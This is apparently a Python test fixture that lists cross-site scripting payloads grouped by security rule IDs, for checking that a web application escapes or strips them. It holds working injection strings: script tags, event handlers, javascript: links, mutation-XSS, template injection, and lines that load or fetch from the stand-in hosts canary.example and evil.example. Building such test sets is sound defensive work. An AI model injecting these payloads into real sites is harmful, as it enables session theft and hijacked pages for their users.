"""Words that try to become script on somebody else's page (security XS-01, 02, 03, 07, 09): each by the rule it tries."""

CANARY = "canary.example"
VECTORS: dict[str, tuple[str, ...]] = {
    "XS-01": (
        "<script>alert(1)</script>",
        f"<script src=//{CANARY}/a.js></script>",
        f'"><img src=x onerror=fetch("//{CANARY}/b")>',
        "'\"><svg/onload=alert(2)>",
        "<details open ontoggle=alert(3)>文</details>",
        "<body onpageshow=alert(4)>",
        f"<style>@import '//{CANARY}/c.css';</style>",
        "{{ constructor.constructor('alert(5)')() }}{% debug %}${alert(6)}",
        "<x-data x-init=alert(7)>文</x-data>",
        '<div x-data x-init="alert(8)" hx-get="/sign-out/" hx-trigger="load">文</div>',
    ),
    "XS-02": (
        "</textarea><script>alert(9)</script>",
        "</title><script>alert(10)</script>",
        "</pre></main><script>alert(11)</script>",
        "--></script><script>alert(12)</script>",
    ),
    "XS-03": (
        "<p><a href=\"javascript:alert(13)\">文</a></p>",
        "[文](javascript:alert(14))",
        "<p><a href=\"java\tscript:alert(15)\">文</a></p>",
        f"<p><img src=//{CANARY}/d.png alt=文></p>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(16)></style></mglyph></table></mtext></math>",
        "<p style=\"background:url(javascript:alert(17))\">文</p>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(18)>\"></noscript>",
        "<form action=//evil.example><input name=csrfmiddlewaretoken><button>文</button></form>",
        "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    ),
    "XS-07": (
        "<iframe srcdoc='<script>parent.alert(19)</script>'></iframe>",
        "<object data=\"data:text/html,<script>alert(20)</script>\"></object>",
        "<embed src=//evil.example/e.swf>",
        "<template><script>alert(21)</script></template>",
    ),
    "XS-09": (
        "<svg><animate onbegin=alert(22) attributeName=x></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg onload=alert(23)>\"></use></svg>",
        "\u202e<script>alert(24)</script>gpj.exe",
        "<a id=queue name=queue><form id=location>文",
    ),
}  # fmt: skip
ALL = tuple(vector for ones in VECTORS.values() for vector in ones)
NAME = '"><img src=x onerror=alert(30)>'
FILE_NAME = "<svg onload=alert(31)>.pdf"
